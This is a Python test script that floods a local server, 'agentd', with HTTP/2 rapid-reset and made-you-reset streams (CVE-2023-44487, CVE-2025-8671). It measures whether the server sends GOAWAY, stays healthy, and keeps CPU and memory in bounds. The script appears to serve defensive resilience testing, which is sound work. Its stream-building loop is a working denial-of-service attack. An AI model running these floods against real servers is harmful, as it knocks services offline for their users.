#!/usr/bin/env python3
"""HTTP/2 reset floods against agentd over one h2c connection, in a tight loop bounded
by a stream count and a time limit. Modes:

  reset           rapid reset (CVE-2023-44487): each stream's HEADERS and its
                  RST_STREAM in the same write, before the server can accept it.
  made-you-reset  the client makes the server reset (CVE-2025-8671): each stream
                  announces content-length 1 and sends 2 bytes, a stream error the
                  server answers with RST_STREAM.
  paced           HEADERS first, RST_STREAM only once the server has answered
                  something: the resets land on accepted streams, which the
                  pending-accept limit does not count.

Pass (reset, made-you-reset): the server answers with GOAWAY (or closes the
connection). Pass (all): it keeps serving other clients, its CPU use settles in the
second after the attack, and its resident memory stays within a bound. Prints one
JSON line of figures; exits 1 when a defence failed.

    rapid_reset.py --url http://127.0.0.1:PORT --pid PID [--mode M] [--streams N] [--seconds S]
"""

import argparse
import json
import sys
import time

import hpack
from hyperframe.frame import DataFrame, HeadersFrame, RstStreamFrame

import procstat
from h2raw import Conn, host_port

CANCEL = 0x8
QUERY = b'{"query":{"id":"01JDX3ABCDEFGHJKMNPQRSTVWX","prompt":"reset me"}}'


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--url", required=True, help="base URL, http://host:port")
    ap.add_argument("--pid", type=int, required=True, help="agentd's process id")
    ap.add_argument("--mode", choices=["reset", "made-you-reset", "paced"], default="reset")
    ap.add_argument("--path", default="/agent", help="/agent (POST with a body) or a GET path")
    ap.add_argument("--streams", type=int, default=100_000, help="most streams to open")
    ap.add_argument("--seconds", type=float, default=10.0, help="longest attack")
    ap.add_argument("--batch", type=int, default=100, help="streams per write")
    ap.add_argument("--rss-bound-mib", type=float, default=64.0, help="allowed RSS growth")
    ap.add_argument("--settle-cpu", type=float, default=0.25,
                    help="most CPU seconds the server may use in the second after the attack")
    a = ap.parse_args()
    host, port = host_port(a.url)
    post = a.path.rstrip("/") in ("/agent", "/assist")
    headers = [
        (":method", "POST" if post else "GET"),
        (":scheme", "http"),
        (":authority", f"{host}:{port}"),
        (":path", a.path),
    ]
    headers_one_byte = headers + [("content-type", "application/json"), ("content-length", "1")]
    if post:
        headers += [("content-type", "application/json"), ("content-length", str(len(QUERY)))]

    cpu0, rss0 = procstat.cpu_seconds(a.pid), procstat.rss_bytes(a.pid)
    rss_peak = rss0
    conn = Conn(host, port)
    encoder = hpack.Encoder()
    stream_id, opened = 1, 0
    started = time.monotonic()
    deadline = started + a.seconds
    while opened < a.streams and time.monotonic() < deadline and not conn.stopped:
        batch, resets = bytearray(), bytearray()
        for _ in range(min(a.batch, a.streams - opened)):
            if a.mode == "made-you-reset":
                # One byte announced, two sent: the server must reset the stream.
                block = encoder.encode(headers_one_byte)
                batch += HeadersFrame(stream_id, block, flags=["END_HEADERS"]).serialize()
                batch += DataFrame(stream_id, b"{}", flags=["END_STREAM"]).serialize()
            else:
                block = encoder.encode(headers)
                if post:
                    batch += HeadersFrame(stream_id, block, flags=["END_HEADERS"]).serialize()
                    batch += DataFrame(stream_id, QUERY, flags=["END_STREAM"]).serialize()
                else:
                    batch += HeadersFrame(
                        stream_id, block, flags=["END_HEADERS", "END_STREAM"]
                    ).serialize()
                resets += RstStreamFrame(stream_id, error_code=CANCEL).serialize()
            stream_id += 2
            opened += 1
        if a.mode == "paced":
            # The server accepts the streams and starts answering before they are reset.
            seen = conn.frames_received
            if not conn.send(bytes(batch)):
                break
            wait_end = time.monotonic() + 1.0
            while conn.frames_received == seen and not conn.stopped and time.monotonic() < wait_end:
                conn.poll(0.01)
            batch = resets
        else:
            batch += resets
        if not conn.send(bytes(batch)):
            break
        conn.poll(0)
        if opened % (a.batch * 50) == 0:
            rss_peak = max(rss_peak, procstat.rss_bytes(a.pid))
    attack_s = time.monotonic() - started
    conn.wait_stopped(2.0)
    rss_peak = max(rss_peak, procstat.rss_bytes(a.pid))
    cpu_attack = procstat.cpu_seconds(a.pid) - cpu0
    conn.close()
    # Once the attacker is gone the server must go quiet.
    cpu1 = procstat.cpu_seconds(a.pid)
    time.sleep(1.0)
    cpu_settle = procstat.cpu_seconds(a.pid) - cpu1
    rss1 = procstat.rss_bytes(a.pid)
    live = procstat.live_status(host, port)

    g = conn.goaway
    out = {
        "attack": "rapid_reset",
        "mode": a.mode,
        "path": a.path,
        "streams_opened_and_reset": opened,
        "attack_seconds": round(attack_s, 3),
        "streams_per_second": round(opened / attack_s) if attack_s > 0 else None,
        "goaway": g.as_dict() if g else None,
        "goaway_after_ms": round((g.at - started) * 1e3, 1) if g else None,
        "closed_by_server": conn.closed,
        "bytes_sent": conn.bytes_sent,
        "server_cpu_seconds_during": round(cpu_attack, 3),
        "server_cpu_seconds_second_after": round(cpu_settle, 3),
        "server_rss_mib": [round(rss0 / 2**20, 1), round(rss_peak / 2**20, 1), round(rss1 / 2**20, 1)],
        "health_live_after": live,
    }
    failures = []
    if a.mode != "paced" and not conn.stopped:
        failures.append(f"no GOAWAY and no close after {opened} reset streams in {attack_s:.1f} s")
    if live != 200:
        failures.append(f"GET /health/live answered {live} after the attack")
    if (rss_peak - rss0) / 2**20 > a.rss_bound_mib:
        failures.append(f"RSS grew {(rss_peak - rss0) / 2**20:.1f} MiB (bound {a.rss_bound_mib})")
    if cpu_settle > a.settle_cpu:
        failures.append(f"server used {cpu_settle:.2f} s CPU in the second after the attack")
    out["failures"] = failures
    print(json.dumps(out))
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
